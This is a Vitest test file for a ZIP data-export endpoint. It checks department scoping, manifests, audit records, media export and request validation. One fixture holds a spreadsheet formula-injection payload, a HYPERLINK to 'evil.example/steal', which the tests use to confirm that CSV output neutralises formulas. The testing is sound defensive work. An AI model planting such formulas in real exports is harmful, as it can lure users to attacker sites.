import { createHash, randomBytes } from "node:crypto";
import { beforeAll, describe, expect, it } from "vitest";
import { POST } from "@/app/system/export/route";
import { generateApiToken } from "@/lib/auth/api-token";
import { mediaStore } from "@/lib/storage/media-store";
import {
  createDepartment,
  createEmulation,
  createGrant,
  createGroupWithRuns,
  createLogin,
  createProblem,
  createSession,
  createUpload,
} from "@/prisma/factories";
import { call, createActor, db, type TestActor } from "@/tests/api-helpers";
import { uncountedBeforeExport } from "./audit-counts";
import { exportEntityNames, exportManifestSchema, exportRequestSchema, type ExportManifest } from "./schemas";
import { startExport } from "./start-export";
import { ExportCancelledError } from "./zip-writer";
import { csvRecords, jsonlRecords, readZip, type ZipEntries } from "./testing/read-zip";

const formula = '=HYPERLINK("http://evil.example/steal","Click me")';
const imageBytes = randomBytes(70_000);

interface World {
  deptA: string;
  ta: TestActor;
  otherTa: TestActor;
  coordinator: TestActor;
  admin: TestActor;
  sessionA: string;
  sessionB: string;
  groupA: string;
  groupB: string;
  otherSession: string;
  imageId: string;
  messageTexts: string[];
}

let world: World;

async function tokenFor(profileId: string): Promise<string> {
  const token = generateApiToken();
  await db().apiToken.create({ data: { profile_id: profileId, name: "test", token_hash: token.token_hash, token_prefix: token.token_prefix } });
  return token.token;
}

beforeAll(async () => {
  const deptA = (await createDepartment(db())).id;
  const deptB = (await createDepartment(db())).id;
  const ta = await createActor("ta", { department_id: deptA, name: 'Ada, "the" TA' });
  const otherTa = await createActor("ta", { department_id: deptB });
  const coordinator = await createActor("coordinator", { department_id: deptA });
  const admin = await createActor("admin");
  const store = mediaStore();
  const taProfile = await db().profile.findUniqueOrThrow({ where: { id: ta.profile_id } });

  const image = await createUpload(db(), store, imageBytes, { original_name: "../call stack.png", profile_id: ta.profile_id });
  const a = await createSession(
    db(),
    ta.profile_id,
    { created_at: new Date("2026-03-02T10:00:00Z") },
    { chats: [{ name: "Office hours" }], attempts: [{ name: "Recursion", score: "87.50" }] },
  );
  const messageTexts = ["What should factorial(0) return?", '-1? =SUM(A1) or maybe one, "really"'];
  const groupA = await createGroupWithRuns(db(), store, {
    session: a.session,
    runs: [
      {
        messages: [
          { role: "user", text: messageTexts[0], upload_ids: [image.id], calls: [{ template_name: "grade", file_path: "/rubric.pdf" }] },
          { role: "assistant", text: messageTexts[1] },
        ],
      },
    ],
  });
  const b = await createSession(db(), ta.profile_id, { created_at: new Date("2026-03-05T10:00:00Z") });
  const groupB = await createGroupWithRuns(db(), store, { session: b.session });
  await createProblem(db(), a.session.id, { group_id: groupA.group.id, description: formula });
  await createProblem(db(), b.session.id, { group_id: groupB.group.id });
  const other = await createSession(db(), otherTa.profile_id, { created_at: new Date("2026-03-02T11:00:00Z") });
  await createGroupWithRuns(db(), store, { session: other.session });
  await createLogin(db(), taProfile, { created_at: new Date("2026-03-02T09:00:00Z") });
  await createLogin(db(), taProfile, { created_at: new Date("2026-03-09T09:00:00Z"), succeeded: false });
  await createGrant(db(), ta.profile_id, { granted_by_id: coordinator.profile_id, created_at: new Date("2026-03-03T09:00:00Z") });
  await createEmulation(db(), admin.profile_id, ta.profile_id, { started_at: new Date("2026-03-04T09:00:00Z") });
  world = {
    deptA,
    ta: { ...ta, token: await tokenFor(ta.profile_id) },
    otherTa,
    coordinator,
    admin,
    sessionA: a.session.id,
    sessionB: b.session.id,
    groupA: groupA.group.id,
    groupB: groupB.group.id,
    otherSession: other.session.id,
    imageId: image.id,
    messageTexts,
  };
});

async function exportZip(token: string, body: unknown): Promise<{ response: Response; zip: ZipEntries; manifest: ExportManifest }> {
  const response = await call(POST, "/system/export", body, { token });
  expect(
    response.status,
    await response
      .clone()
      .text()
      .catch(() => ""),
  ).toBe(200);
  const zip = await readZip(Buffer.from(await response.arrayBuffer()));
  const manifest = exportManifestSchema.parse(JSON.parse(zip.files.get("manifest.json")?.toString("utf8") ?? "null"));
  return { response, zip, manifest };
}

function csvOf(zip: ZipEntries, entity: string) {
  const bytes = zip.files.get(`${entity}.csv`);
  if (!bytes) throw new Error(`${entity}.csv missing`);
  return csvRecords(bytes.toString("utf8"));
}

function jsonlOf(zip: ZipEntries, entity: string) {
  return jsonlRecords(zip.files.get(`${entity}.jsonl`)?.toString("utf8") ?? "");
}

/** Every data file agrees with the manifest: rows, bytes, sha256; manifest.json comes last. */
function expectConsistent(zip: ZipEntries, manifest: ExportManifest) {
  expect(zip.names.at(-1)).toBe("manifest.json");
  expect(manifest.files.map((file) => file.path)).toEqual(zip.names.slice(0, -1));
  for (const file of manifest.files) {
    const bytes = zip.files.get(file.path) ?? Buffer.alloc(0);
    expect(bytes.byteLength).toBe(file.bytes);
    expect(createHash("sha256").update(bytes).digest("hex")).toBe(file.sha256);
    if (file.format === "csv") {
      const text = bytes.toString("utf8");
      expect(text.split("\r\n")[0]).not.toBe("");
      expect(csvRecords(text)).toHaveLength(file.rows ?? -1);
    }
    if (file.format === "jsonl") expect(jsonlRecords(bytes.toString("utf8"))).toHaveLength(file.rows ?? -1);
    if (file.entity) expect(manifest.counts[file.entity]).toBe(file.rows);
  }
}

describe("POST /system/export", () => {
  it("streams a ZIP of every entity for a coordinator's departments, with headers, manifest and audit record", async () => {
    const { response, zip, manifest } = await exportZip(world.coordinator.token, { department_ids: [world.deptA], purpose: "FERPA request #12" });
    expect(response.headers.get("content-type")).toBe("application/zip");
    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="glow-export-all-\d{8}T\d{6}Z\.zip"$/);
    expectConsistent(zip, manifest);
    for (const entity of exportEntityNames) {
      expect(zip.names).toContain(`${entity}.csv`);
      expect(zip.names).toContain(`${entity}.jsonl`);
    }
    expect(manifest).toMatchObject({
      actor: { profile_id: world.coordinator.profile_id, access_level: "coordinator" },
      target: { type: "all", id: null },
      filters: { department_ids: [world.deptA], date_from: null },
      purpose: "FERPA request #12",
      include_media: false,
    });
    expect(zip.names.some((name) => name.startsWith("media/"))).toBe(false);

    // Exactly the department's data: the TA's two sessions, nothing of the other department.
    expect(new Set(csvOf(zip, "sessions").map((s) => s.id))).toEqual(new Set([world.sessionA, world.sessionB]));
    expect(csvOf(zip, "profiles").map((p) => p.id)).not.toContain(world.otherTa.profile_id);
    expect(manifest.counts).toMatchObject({ sessions: 2, groups: 2, chats: 2, attempts: 1, problems: 2, logins: 2, grants: 1, emulations: 1 });
    const runs = await db().run.count({ where: { group: { session: { profile: { department_id: world.deptA } } } } });
    const messages = await db().message.count({ where: { run: { group: { session: { profile: { department_id: world.deptA } } } } } });
    expect(manifest.counts.runs).toBe(runs);
    expect(manifest.counts.messages).toBe(messages);
    expect(manifest.counts.uploads).toBe(
      await db().upload.count({
        where: { messages: { some: { message: { run: { group: { session: { profile: { department_id: world.deptA } } } } } } } },
      }),
    );

    // Spreadsheet formulas are neutralised in the CSV only; JSONL keeps the raw text.
    const problem = csvOf(zip, "problems").find((p) => p.session_id === world.sessionA);
    expect(problem?.description).toBe(`'${formula}`);
    expect(jsonlOf(zip, "problems").find((p) => p.session_id === world.sessionA)?.description).toBe(formula);
    expect(csvOf(zip, "profiles").find((p) => p.id === world.ta.profile_id)?.name).toBe('Ada, "the" TA');

    const audit = await db().auditLog.findFirstOrThrow({
      where: { actor_id: world.coordinator.profile_id, action: "export" },
      orderBy: { created_at: "desc" },
    });
    expect(audit).toMatchObject({ target_type: "all", target_id: null, request_id: manifest.request_id });
    expect(audit.details).toMatchObject({ purpose: "FERPA request #12", filters: { department_ids: [world.deptA] }, counts: { sessions: 2 } });
    // Counted before the first byte from the kept summaries, and equal to what was written; uploads and
    // tool calls, which no summary keeps, are only in the manifest.
    const counted = { ...manifest.counts };
    for (const entity of uncountedBeforeExport) delete counted[entity];
    expect((audit.details as { counts: unknown }).counts).toEqual(counted);
  });

  it("denormalizes runs and messages, inlining message text", async () => {
    const { zip } = await exportZip(world.ta.token, { target_group_id: world.groupA });
    const [run] = csvOf(zip, "runs");
    expect(run).toMatchObject({ group_id: world.groupA, session_id: world.sessionA, profile_id: world.ta.profile_id, profile_name: 'Ada, "the" TA' });
    expect(run?.model_name).toMatch(/^test-model-/);
    expect(run?.agent_name).toMatch(/^Test persona/);
    expect(run?.cost).toMatch(/^\d+\.\d+$/);
    // Rows are in id order (keyset pagination), so put the conversation back in order.
    const messages = jsonlOf(zip, "messages").sort((a, b) => Number(a.position) - Number(b.position));
    expect(messages.map((m) => m.text)).toEqual(world.messageTexts);
    expect(messages[0]).toMatchObject({ role: "user", group_id: world.groupA, session_id: world.sessionA, image_upload_ids: [world.imageId] });
    expect((messages[0]?.text_upload_ids as string[]).length).toBe(1);
    // A message starting with "-" is neutralised in the CSV.
    expect(csvOf(zip, "messages").find((m) => m.position === "1")?.text).toBe(`'${world.messageTexts[1]}`);
    expect(csvOf(zip, "tool_calls")).toMatchObject([{ template_name: "grade", file_path: "/rubric.pdf", session_id: world.sessionA }]);
  });

  it("gives an admin's unfiltered export every department's rows, denormalized like the filtered ones", async () => {
    // The unfiltered path reads without the session and owner joins (rows-sql.ts), so check it on its own.
    const { zip, manifest } = await exportZip(world.admin.token, {});
    expectConsistent(zip, manifest);
    const sessions = new Set(csvOf(zip, "sessions").map((s) => s.id));
    for (const id of [world.sessionA, world.sessionB, world.otherSession]) expect(sessions).toContain(id);
    const runs = csvOf(zip, "runs").filter((r) => r.session_id === world.otherSession);
    expect(runs).toHaveLength(await db().run.count({ where: { group: { session_id: world.otherSession } } }));
    expect(runs.every((r) => r.profile_id === world.otherTa.profile_id && r.profile_name === world.otherTa.name)).toBe(true);
    const filtered = await exportZip(world.coordinator.token, { department_ids: [world.deptA] });
    // Every row of the department's export is in the whole export, byte for byte.
    for (const entity of ["sessions", "chats", "attempts", "groups", "runs", "messages", "uploads", "tool_calls"]) {
      const all = new Set(csvOf(zip, entity).map((row) => JSON.stringify(row)));
      for (const row of csvOf(filtered.zip, entity)) expect(all.has(JSON.stringify(row)), `${entity} ${row.id}`).toBe(true);
    }
  });

  it("exports only the target session's rows, with byte-identical media", async () => {
    const { zip, manifest } = await exportZip(world.ta.token, { target_session_id: world.sessionA, include_media: true });
    expectConsistent(zip, manifest);
    expect(manifest.target).toEqual({ type: "session", id: world.sessionA });
    expect(zip.names).not.toContain("logins.csv");
    expect(csvOf(zip, "sessions").map((s) => s.id)).toEqual([world.sessionA]);
    expect(csvOf(zip, "profiles").map((p) => p.id)).toEqual([world.ta.profile_id]);
    for (const entity of ["chats", "attempts", "groups", "problems"]) {
      expect(csvOf(zip, entity).every((row) => row.session_id === world.sessionA)).toBe(true);
    }
    expect(csvOf(zip, "groups").map((g) => g.id)).toEqual([world.groupA]);
    expect(csvOf(zip, "runs").every((r) => r.group_id === world.groupA)).toBe(true);
    expect(csvOf(zip, "messages").every((m) => m.session_id === world.sessionA)).toBe(true);
    expect(manifest.counts).toMatchObject({ sessions: 1, groups: 1, runs: 1, messages: 2, uploads: 3, tool_calls: 1, problems: 1 });

    const image = csvOf(zip, "uploads").find((u) => u.id === world.imageId);
    expect(image?.media_path).toBe(`media/image/${world.imageId}-call_stack.png`);
    expect(zip.files.get(image?.media_path ?? "")?.equals(imageBytes)).toBe(true);
    const mediaFiles = manifest.files.filter((f) => f.format === "media");
    expect(mediaFiles).toHaveLength(3);
    for (const upload of csvOf(zip, "uploads")) {
      expect(
        createHash("sha256")
          .update(zip.files.get(upload.media_path ?? "") ?? "")
          .digest("hex"),
      ).toBe(upload.sha256);
    }
    expect(manifest.missing_media).toEqual([]);
  });

  it("exports only the target group's rows", async () => {
    const { zip, manifest } = await exportZip(world.admin.token, { target_group_id: world.groupB, purpose: "debugging" });
    expectConsistent(zip, manifest);
    expect(zip.names).not.toContain("chats.csv");
    expect(csvOf(zip, "groups").map((g) => g.id)).toEqual([world.groupB]);
    expect(csvOf(zip, "sessions").map((s) => s.id)).toEqual([world.sessionB]);
    expect(csvOf(zip, "runs").length).toBe(2);
    expect(csvOf(zip, "runs").every((r) => r.group_id === world.groupB)).toBe(true);
    expect(csvOf(zip, "messages").every((m) => m.group_id === world.groupB)).toBe(true);
    expect(csvOf(zip, "problems").map((p) => p.group_id)).toEqual([world.groupB]);
    const audit = await db().auditLog.findFirstOrThrow({ where: { actor_id: world.admin.profile_id, target_id: world.groupB } });
    expect(audit).toMatchObject({ action: "export", target_type: "group" });
    // A group's export is small: its audit record counts every entity exactly, uploads included.
    expect((audit.details as { counts: unknown }).counts).toEqual(manifest.counts);
  });

  it("applies the date window and keeps a TA to their own data", async () => {
    const { zip, manifest } = await exportZip(world.ta.token, { date_from: "2026-03-01", date_to: "2026-03-03" });
    expectConsistent(zip, manifest);
    expect(csvOf(zip, "sessions").map((s) => s.id)).toEqual([world.sessionA]);
    expect(csvOf(zip, "profiles").map((p) => p.id)).toEqual([world.ta.profile_id]);
    expect(manifest.counts).toMatchObject({ logins: 1, grants: 1, emulations: 0, groups: 1 });
    const audit = await db().auditLog.findFirstOrThrow({ where: { request_id: manifest.request_id } });
    const counted = { ...manifest.counts };
    for (const entity of uncountedBeforeExport) delete counted[entity];
    expect((audit.details as { counts: unknown }).counts).toEqual(counted);
  });

  it("answers 404 for a missing or out-of-scope target, like the other endpoints", async () => {
    for (const [token, body] of [
      [world.coordinator.token, { target_session_id: world.otherSession }],
      [world.ta.token, { target_session_id: world.otherSession }],
      [world.otherTa.token, { target_group_id: world.groupA }],
      [world.admin.token, { target_session_id: "00000000-0000-4000-8000-000000000000" }],
    ] as const) {
      const response = await call(POST, "/system/export", body, { token });
      expect(response.status).toBe(404);
      expect(((await response.json()) as { error: { code: string } }).error.code).toBe("not_found");
    }
  });

  it.each([
    [{ target_session_id: "00000000-0000-4000-8000-000000000000", target_group_id: "00000000-0000-4000-8000-000000000000" }, "target_group_id"],
    [{ target_session_id: "nope" }, "target_session_id"],
    [{ target_session_id: "00000000-0000-4000-8000-000000000000", date_from: "2026-01-01" }, "date_from"],
    [{ purpose: "x".repeat(501) }, "purpose"],
    [{ include_media: "yes" }, "include_media"],
    [{ date_from: "2026-03-05", date_to: "2026-03-01" }, "date_from"],
    [{ format: "xlsx" }, "format"],
  ])("rejects %j with a 400 naming %s", async (body, field) => {
    const response = await call(POST, "/system/export", body, { token: world.admin.token });
    expect(response.status).toBe(400);
    const error = ((await response.json()) as { error: { issues: { field: string }[] } }).error;
    expect(error.issues.map((issue) => issue.field)).toContain(field);
  });

  it("tells a coordinator when departments asked for lie outside their scope, in the manifest, a header and the audit row", async () => {
    const other = (await db().profile.findUniqueOrThrow({ where: { id: world.otherTa.profile_id } })).department_id!;
    const outside = await exportZip(world.coordinator.token, { department_ids: [other] });
    expect(outside.response.headers.get("glow-export-scope-narrowed")).toBe(`departments_outside_scope=${encodeURIComponent(other)}`);
    expect(outside.manifest.scope).toEqual({
      covers: "departments",
      department_ids: [world.deptA],
      narrowed: true,
      departments_outside_scope: [other],
    });
    expect(outside.manifest.counts.sessions).toBe(0);
    const audit = await db().auditLog.findFirstOrThrow({ where: { request_id: outside.manifest.request_id, action: "export" } });
    expect(audit.details).toMatchObject({ departments_outside_scope: [other] });

    const mixed = await exportZip(world.coordinator.token, { department_ids: [world.deptA, other] });
    expect(mixed.manifest.scope).toMatchObject({ narrowed: true, departments_outside_scope: [other] });
    expect(mixed.manifest.counts.sessions).toBe(2);

    const inside = await exportZip(world.coordinator.token, { department_ids: [world.deptA] });
    expect(inside.response.headers.get("glow-export-scope-narrowed")).toBeNull();
    expect(inside.manifest.scope.narrowed).toBe(false);
    const admin = await exportZip(world.admin.token, { department_ids: [other] });
    expect(admin.response.headers.get("glow-export-scope-narrowed")).toBeNull();
    expect(admin.manifest.scope).toEqual({ covers: "everything", department_ids: [], narrowed: false, departments_outside_scope: [] });
  });

  it("lists uploads whose bytes are gone instead of failing the ZIP", async () => {
    const session = await createSession(db(), world.otherTa.profile_id);
    const lost = await createUpload(db(), mediaStore(), randomBytes(10), { original_name: "lost.wav" });
    await db().upload.update({ where: { id: lost.id }, data: { storage_key: "00/00/00000000-0000-4000-8000-000000000000.wav" } });
    await createGroupWithRuns(db(), mediaStore(), { session: session.session, runs: [{ messages: [{ role: "user", upload_ids: [lost.id] }] }] });
    const { zip, manifest } = await exportZip(world.admin.token, { target_session_id: session.session.id, include_media: true });
    expectConsistent(zip, manifest);
    expect(manifest.missing_media).toEqual([lost.id]);
    expect(csvOf(zip, "uploads").find((u) => u.id === lost.id)?.media_path).toBe("");
  });

  it("stops writing when the client cancels the download", async () => {
    const actor = {
      profile_id: world.admin.profile_id,
      name: world.admin.name,
      email: "admin@test",
      access_level: "admin" as const,
      department_ids: [],
      token_id: null,
    };
    const started = await startExport(actor, exportRequestSchema.parse({ include_media: true }), {
      db: db(),
      store: mediaStore(),
      requestId: "cancel-test",
      headers: new Headers(),
    });
    const reader = started.body.getReader();
    expect((await reader.read()).done).toBe(false);
    await reader.cancel();
    await expect(started.done).rejects.toBeInstanceOf(ExportCancelledError);
  });

  it("fails the download, not silently truncates it, when a query fails mid-export", async () => {
    const actor = { profile_id: world.ta.profile_id, name: "TA", email: "ta@test", access_level: "ta" as const, department_ids: [], token_id: null };
    // Messages are read with raw SQL: make that one query fail after the first entities are written.
    const failing = new Proxy(db(), {
      get: (target, key, receiver) =>
        key === "$queryRaw"
          ? (strings: TemplateStringsArray, ...values: unknown[]) =>
              strings.join("").includes("FROM messages m") ? Promise.reject(new Error("connection lost")) : target.$queryRaw(strings, ...values)
          : Reflect.get(target, key, receiver),
    });
    const started = await startExport(actor, exportRequestSchema.parse({}), {
      db: failing,
      store: mediaStore(),
      requestId: "fail-test",
      headers: new Headers(),
    });
    await expect(new Response(started.body).arrayBuffer()).rejects.toThrow();
    await expect(started.done).rejects.toThrow("connection lost");
  });

  it("requires a token", async () => {
    expect((await call(POST, "/system/export", {}, { token: null })).status).toBe(401);
  });
});
